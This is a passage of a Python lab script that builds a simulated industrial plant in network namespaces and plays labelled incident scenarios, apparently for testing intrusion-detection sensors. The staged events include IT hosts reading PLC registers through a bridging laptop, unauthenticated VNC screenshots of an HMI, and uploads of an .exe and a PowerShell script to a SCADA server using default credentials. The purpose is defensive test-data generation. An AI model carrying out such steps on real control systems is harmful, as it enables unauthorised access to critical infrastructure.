        self.run_in(name, ["busybox", "ping", "-c", "2", IT_DNS], timeout=20)
        # Two IT hosts reach PLC-1 through the laptop (a lab route to the PLC's /32).
        plc1 = ip_of("plc1")
        code = ("from pymodbus.client import ModbusTcpClient\n"
                f"c=ModbusTcpClient('{plc1}',port=502,timeout=3);c.connect()\n"
                "for a in range(0,40,10): c.read_holding_registers(a,count=10,slave=1)\n"
                "c.close()\n")
        for host in ("itws1", "itdns"):
            sh("ip", "-n", self.ns(host), "route", "add", f"{plc1}/32", "via", it_ip)
            self.py(host, code, timeout=60)
            sh("ip", "-n", self.ns(host), "route", "del", f"{plc1}/32", "via", it_ip)
        end = time.time()
        self.remove_host(name, 2)
        return [ctl_ip, it_ip, ip_of("itws1"), IT_DNS, plc1], \
            f"{hostname}: DHCP on both legs, ip_forward=1, itws1 and itdns read plc1 through it", end

    def ph_cellular(self):
        name, zone, octet, mac, _role, _sw = CELL
        addr = f"{ZONES[zone][0]}.{octet}"
        self.extra_host(name, OT_DNS, [("eth0", mac, addr, zone)], routes_via=f"{ZONES[zone][0]}.1")
        self.run_in(name, ["busybox", "udhcpc", "-i", "eth0", "-n", "-q", "-f", "-t", "3", "-T", "2",
                           "-V", CELL_VENDOR_CLASS, "-x", "hostname:IR1101-cell", "-r", addr, "-s", "/bin/true"],
                    timeout=30)
        self.run_in(name, ["busybox", "ping", "-c", "3", ip_of("plc1")], timeout=20)
        end = time.time()
        self.remove_host(name, 1)
        return [addr], f"DHCP vendor class {CELL_VENDOR_CLASS!r} from a new MAC in the control cell", end

    def with_server(self, host, argv, log, client):
        """Starts a server for one phase on `host`, gives it 3 s, runs `client()`, stops the
        server; returns when the client finished."""
        srv = self.spawn(host, argv, log=log)
        time.sleep(3)
        client()
        end = time.time()
        try:
            os.killpg(srv.pid, signal.SIGTERM)
        except ProcessLookupError:
            pass
        return end

    def ph_vnc(self):
        hmi = ip_of("hmi1")
        code = ("import time\nfrom vncdotool import api\n"
                f"c=api.connect('{hmi}::5900')\n"
                "for i in range(3):\n"
                f"  c.mouseMove(100+i*50,100); c.captureScreen('{self.out}/vnc-%d.png'%i); time.sleep(2)\n"
                "c.disconnect(); api.shutdown()\n")
        end = self.with_server(
            "hmi1", ["Xvnc", ":57", "-geometry", "320x240", "-depth", "24", "-SecurityTypes", "None",
                     "-rfbport", "5900", "-interface", hmi, "-nolisten", "tcp", "-desktop", "HMI1"],
            "hmi1-xvnc-incident", lambda: self.py("itws1", code, timeout=60))
        return [ip_of("itws1"), hmi], "tigervnc Xvnc on hmi1:5900, vncdotool screenshots from itws1", end

    def agent_server(self, host, role, root, log, client):
        """`with_server` for one of the lab's own agents (`agents.py ROLE`) on `host`."""
        argv = [VENV_PY, AGENTS, "--seed", str(self.a.seed), role, "--bind", ip_of(host), "--root", root]
        return self.with_server(host, argv, log, client)

    def ph_ftp_upload(self):
        scada = ip_of("scada1")
        code = ("import ftplib\n"
                f"f=ftplib.FTP('{scada}',timeout=10);f.login('operator','operator')\n"
                f"f.storbinary('STOR vendor-update.exe',open('{AIRGAP_EXE}','rb'))\n"
                f"f.storbinary('STOR Invoke-Update.ps1',open('{AIRGAP_PS1}','rb'))\n"
                "f.quit()\n")
        end = self.agent_server("scada1", "ftp", os.path.join(self.out, "ftp-scada1"), "scada1-ftp-incident",
                                lambda: self.py("files1", code, timeout=60))
        return [ip_of("files1"), scada], "ftplib STOR vendor-update.exe (PE) and Invoke-Update.ps1 to pyftpdlib", end

    def ph_smb_upload(self):
        scada = ip_of("scada1")
        code = ("from impacket.smbconnection import SMBConnection\n"
                f"c=SMBConnection('{scada}','{scada}',timeout=10);c.login('operator','')\n"
                f"c.putFile('UPDATES','vendor-update.exe',open('{AIRGAP_EXE}','rb').read)\n"
                f"c.putFile('UPDATES','Invoke-Update.ps1',open('{AIRGAP_PS1}','rb').read)\n"
                "c.logoff()\n")
        end = self.agent_server("scada1", "smb", os.path.join(self.out, "smb-scada1"), "scada1-smb-incident",
                                lambda: self.py("files1", code, timeout=60))
        return [ip_of("files1"), scada], "impacket SMB2 put of vendor-update.exe (PE) and Invoke-Update.ps1", end

    def ph_http_download(self):
        web = ip_of("web1")
        www = os.path.join(self.out, "www")
        os.makedirs(www, exist_ok=True)
        shutil.copy(AIRGAP_EXE, os.path.join(www, "vendor-update.exe"))
        shutil.copy(AIRGAP_PS1, os.path.join(www, "Invoke-Update.ps1"))

        def fetch():
            for f in ("vendor-update.exe", "Invoke-Update.ps1"):
                self.run_in("ews1", ["busybox", "wget", "-q", "-O", "/dev/null", f"http://{web}:8000/{f}"],
                            timeout=30)

        end = self.with_server("web1", [VENV_PY, "-m", "http.server", "8000", "--bind", web, "--directory", www],
                               "web1-www-incident", fetch)
        return [ip_of("ews1"), web], "busybox wget of vendor-update.exe and Invoke-Update.ps1 from web1:8000", end

    # ----------------------------------------------------------------- run
    def run(self):
        os.makedirs(self.out, exist_ok=True)
        for f in ("capture.pcap", "labels.json"):
            if os.path.exists(os.path.join(self.out, f)):
                os.remove(os.path.join(self.out, f))
        os.makedirs(os.path.join(self.out, "logs"), exist_ok=True)
        self.write_topology()
        t_build = time.time()
        self.build()
        self.start_capture()
        if self.a.ready_file and self.a.ready_when == "network":
            # A sensor under test attaches to the switch before any plant process starts,
            # so it sees every ARP, DHCP exchange and TCP handshake from the beginning.
            self.write_ready()
            time.sleep(self.a.start_delay)
        self.t0 = time.time()
        self.start()
        print(f"[lab] plant up in {time.time() - t_build:.1f}s; prefix {self.prefix}; running {self.a.duration}s",
              file=sys.stderr)
        if self.a.ready_file and self.a.ready_when == "plant":
            self.write_ready()
        if self.a.scenario == "incidents":
            self.write_labels()
            th = threading.Thread(target=self.incidents, daemon=True)
            th.start()
        elif self.a.scenario == "airgap":
            self.write_labels()
            th = threading.Thread(target=self.airgap, daemon=True)
            th.start()
        end = self.t0 + self.a.duration
        while time.time() < end and not self.stop.is_set():
            for name, p in self.procs:
                if p.poll() is not None and name not in ("tcpdump",) and not name.endswith("-incident"):
                    print(f"[lab] {name} exited with {p.returncode} (see logs/{name}.log)", file=sys.stderr)
                    self.procs.remove((name, p))
                    break
            time.sleep(1)
        self.teardown()
        self.summarise()

    def write_ready(self):
        tmp = self.a.ready_file + ".tmp"
        with open(tmp, "w") as f:
            f.write(self.prefix + "sw\n")
        os.replace(tmp, self.a.ready_file)

    def write_topology(self):
        with open(os.path.join(self.out, "topology.json"), "w") as f:
            json.dump(topology(self.a), f, indent=1)

    def summarise(self):
        pcap = os.path.join(self.out, "capture.pcap")
        if shutil.which("capinfos") and os.path.exists(pcap):
            info = subprocess.run(["capinfos", "-c", "-u", "-s", pcap], capture_output=True, text=True).stdout
            print(info, file=sys.stderr)


def topology(a=None):
    hosts = []
    for h in HOSTS:
        name, zone, octet, mac, role, software = h
        if a is not None and ((name == "bms1" and a.no_bacnet) or (name == "rtu2" and a.no_dnp3)):
            continue
        hosts.append({"name": name, "zone": zone, "purdue_level": ZONES[zone][3], "ip": f"{ZONES[zone][0]}.{octet}",
                      "mac": mac, "role": role, "software": software,
                      "hostname": name if name in ("ews1", "itws1") else None})
    routers = [{"name": "rtr", "zone": z, "ip": f"{net}.1", "mac": ROUTER_MAC.format(i + 1), "role": "network"}
               for i, (z, (net, _b, _d, _l)) in enumerate(ZONES.items())]
    zones = [{"zone": z, "subnet": f"{net}.0/24", "bridge": br, "description": d, "purdue_level": lvl}
             for z, (net, br, d, lvl) in ZONES.items()]
    topo = {"zones": zones, "hosts": hosts, "router_legs": routers, "span_interface": "span0",
            "rogue": {"name": ROGUE[0], "ip": ip_of(ROGUE[0]), "mac": ROGUE[3]}}
    if a is not None and a.scenario == "airgap":
        name, octet, mac_ctl, mac_it, hostname = DUAL
        topo["airgap_devices"] = [
            {"name": name, "hostname": hostname, "legs": [
                {"zone": "ctl", "ip": f"{ZONES['ctl'][0]}.{octet}", "mac": mac_ctl},
                {"zone": "it", "ip": f"{ZONES['it'][0]}.{octet}", "mac": mac_it}],
             "software": "busybox udhcpc on both legs, Linux ip_forward=1"},
            {"name": CELL[0], "hostname": "IR1101-cell", "legs": [
                {"zone": CELL[1], "ip": f"{ZONES[CELL[1]][0]}.{CELL[2]}", "mac": CELL[3]}],
             "vendor_class": CELL_VENDOR_CLASS, "software": CELL[5]},
            {"name": "(none)", "ip": UNUSED_OUT, "note": "outside address where nothing answers"},
        ]
    return topo


def kill_ns_pids(ns):
    """Kill, by PID, whatever still runs inside one of our namespaces."""
    r = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True)
    pids = [int(x) for x in r.stdout.split() if x.isdigit()]
    for sig in (signal.SIGTERM, signal.SIGKILL):
        for pid in pids:
            try:
                os.kill(pid, sig)
            except ProcessLookupError:
                pass
        if sig == signal.SIGTERM and pids:
            time.sleep(1)


def clean(pid=None):
    prefix = f"{PREFIX}{pid}-" if pid else PREFIX
    r = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True)
    n = 0
    for line in r.stdout.splitlines():
        ns = line.split()[0] if line.split() else ""
        if ns.startswith(prefix):
            kill_ns_pids(ns)
            subprocess.run(["ip", "netns", "del", ns], capture_output=True)
            shutil.rmtree(f"/etc/netns/{ns}", ignore_errors=True)
            n += 1
    if os.path.isdir("/etc/netns"):
        for d in os.listdir("/etc/netns"):
            if d.startswith(prefix):
                shutil.rmtree(f"/etc/netns/{d}", ignore_errors=True)
    print(f"removed {n} namespaces", file=sys.stderr)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("run", help="build the plant, run it, capture, tear down")
    r.add_argument("--duration", type=float, default=120)
    r.add_argument("--scenario", choices=["normal", "incidents", "airgap"], default="normal")
    r.add_argument("--out", default=os.path.join(LAB, "out", "run"))
    r.add_argument("--seed", type=int, default=1)
    r.add_argument("--cycle-hmi", type=float, default=1.0, help="HMI Modbus/S7 poll cycle (ENIP: 2x)")
    r.add_argument("--cycle-gi", type=float, default=60.0, help="HMI IEC-104 general interrogation cycle")
    r.add_argument("--report-104", type=float, default=5.0, help="RTU-1 cyclic report period")
    r.add_argument("--cycle-setpoint", type=float, default=60.0, help="HMI operator setpoint write cycle")
    r.add_argument("--cycle-scada", type=float, default=5.0, help="SCADA server Modbus poll cycle")
    r.add_argument("--cycle-historian", type=float, default=10.0)
    r.add_argument("--cycle-replicate", type=float, default=60.0)
    r.add_argument("--cycle-ews", type=float, default=300.0)
    r.add_argument("--cycle-it", type=float, default=30.0)
    r.add_argument("--warmup", type=float, default=600.0, help="normal time before the first incident")
    r.add_argument("--phase-gap", type=float, default=90.0, help="normal time between incident phases")
    r.add_argument("--only", help="play only the phases whose name contains this text")
    r.add_argument("--phase-len", type=float, default=120.0, help="length of cycle-change and silent phases")
    r.add_argument("--beacon-period", type=float, default=15.0)
    r.add_argument("--beacon-count", type=int, default=12)
    r.add_argument("--upload-mb", type=int, default=4)
    r.add_argument("--span", choices=["all", "hosts"], default="all",
                   help="all: mirror every switch port, so routed packets appear once per segment; "
                        "hosts: mirror host ports only, so every packet appears once (as sent)")
    r.add_argument("--no-bacnet", action="store_true")
    r.add_argument("--no-dnp3", action="store_true")
    r.add_argument("--ready-file", help="written with the switch namespace name once the plant is up")
    r.add_argument("--ready-when", choices=["network", "plant"], default="plant",
                   help="write --ready-file when the network is built (before any plant process, then wait "
                        "--start-delay) or when all plant processes run")
    r.add_argument("--start-delay", type=float, default=3.0,
                   help="seconds between the ready file and the first plant process with --ready-when network")
    c = sub.add_parser("clean", help="remove leftover gwlab-* namespaces and their processes")
    c.add_argument("--pid", type=int, help="only the namespaces of the run with this plant.py PID")
    sub.add_parser("topology", help="print the lab topology as JSON")
    a = p.parse_args()
    if a.cmd == "clean":
        clean(a.pid)
        return
    if a.cmd == "topology":
        print(json.dumps(topology(), indent=1))
        return
    if os.geteuid() != 0:
        sys.exit("plant.py run needs root (network namespaces)")
    if not os.path.exists(VENV_PY):
        sys.exit(f"missing {VENV_PY}: run lab/setup.sh first")
    plant = Plant(a)
    atexit.register(plant.teardown)

    def on_signal(signum, _frame):
        raise KeyboardInterrupt(f"signal {signum}")

    signal.signal(signal.SIGINT, on_signal)
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGHUP, on_signal)
    t = time.time()
    try:
        plant.run()
    except KeyboardInterrupt as e:
        print(f"[lab] interrupted ({e}); tearing down", file=sys.stderr)
        plant.teardown()
        sys.exit(130)
    finally:
        plant.teardown()
    print(f"[lab] run took {time.time() - t:.1f}s; output in {plant.out}", file=sys.stderr)


if __name__ == "__main__":
    main()
